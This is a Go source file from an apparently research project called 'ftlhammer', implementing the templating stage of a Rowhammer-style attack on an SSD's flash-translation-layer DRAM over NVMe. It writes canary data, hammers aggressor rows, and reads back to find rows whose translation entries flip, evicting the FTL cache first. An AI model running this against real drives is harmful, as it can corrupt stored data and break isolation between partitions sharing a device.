package attack

import (
	"ftlhammer/internal/ftl"
	"ftlhammer/internal/nvme"
)

// Templating (§4.2 "hammering stage"): rowhammerability varies with
// manufacturing, so before the real campaign the attacker tests candidate
// triples online. Within its own partition it can observe victim rows
// directly: write known data to the LBAs whose translations live in the
// candidate victim row, hammer the aggressors, and check whether any of
// those LBAs now reads differently (or errors) — evidence that a
// translation bit flipped.

// TemplateResult describes one tested binding.
type TemplateResult struct {
	Binding Binding
	// Vulnerable means hammering visibly corrupted a translation.
	Vulnerable bool
	// Observation describes what was seen ("data changed", "read
	// error", "").
	Observation string
}

// Template hammers each candidate own-partition binding with the
// pattern and returns per-binding results, vulnerable first (order
// preserved otherwise). A zero pat.Iterations hammers four refresh
// windows' worth at the required rate, at least 1024 iterations.
func Template(dev *nvme.Device, ns *nvme.Namespace, path nvme.Path, bindings []Binding, pat Pattern) ([]TemplateResult, error) {
	if pat.Iterations <= 0 {
		pat.Iterations = max(WindowBudget(dev, 4), 1024)
	}
	h := &DeviceHammerer{Dev: dev, NS: ns, Path: path}
	var vulnerable, clean []TemplateResult
	for _, b := range bindings {
		res, err := templateOne(h, b, pat)
		if err != nil {
			return nil, err
		}
		if res.Vulnerable {
			vulnerable = append(vulnerable, res)
		} else {
			clean = append(clean, res)
		}
	}
	return append(vulnerable, clean...), nil
}

// templateOne probes a single candidate binding.
func templateOne(h *DeviceHammerer, b Binding, pat Pattern) (TemplateResult, error) {
	res := TemplateResult{Binding: b}
	dev, ns, path := h.Dev, h.NS, h.Path
	// Only LBAs we own can be written and observed. A flip can strike
	// any entry in the victim row, so the whole row is armed: each
	// VictimGlobalLBAs element is the first of 16 entries sharing a
	// 64-byte DRAM line.
	var probes []ftl.LBA
	for _, g := range b.VictimGlobalLBAs {
		for k := ftl.LBA(0); k < 16; k++ {
			lba := g + k
			if lba >= ns.StartLBA && uint64(lba-ns.StartLBA) < ns.NumLBAs {
				probes = append(probes, lba-ns.StartLBA)
			}
		}
	}
	if len(probes) == 0 {
		return res, nil // cross-partition candidate: not directly testable
	}
	if h.Buf == nil {
		h.Buf = make([]byte, dev.BlockBytes())
	}
	buf := h.Buf
	// Arm the victim row: mapped entries with recognizable data.
	for _, lba := range probes {
		for j := range buf {
			buf[j] = canaryFill(lba)
		}
		if err := dev.Write(ns, lba, buf, path); err != nil {
			return res, err
		}
	}
	if err := h.Hammer(b, pat); err != nil {
		return res, err
	}
	// Probe: any change or error marks the row vulnerable. Behind an FTL
	// cache the probe itself must evict first, or it would read the
	// stale cached translation instead of the flipped DRAM entry.
	evictDelta := ftl.LBA(pat.CacheEvictLines) * 16
	for _, lba := range probes {
		if evictDelta > 0 {
			// Eviction only; errors from flipped alias entries are noise.
			_, _ = dev.Read(ns, aliasLBA(ns, lba, evictDelta), buf, path)
		}
		mapped, err := dev.Read(ns, lba, buf, path)
		if err != nil {
			res.Vulnerable = true
			res.Observation = "read error: " + err.Error()
			return res, nil
		}
		if !mapped {
			res.Vulnerable = true
			res.Observation = "mapping vanished"
			return res, nil
		}
		want := canaryFill(lba)
		for _, bb := range buf {
			if bb != want {
				res.Vulnerable = true
				res.Observation = "data changed"
				return res, nil
			}
		}
	}
	return res, nil
}
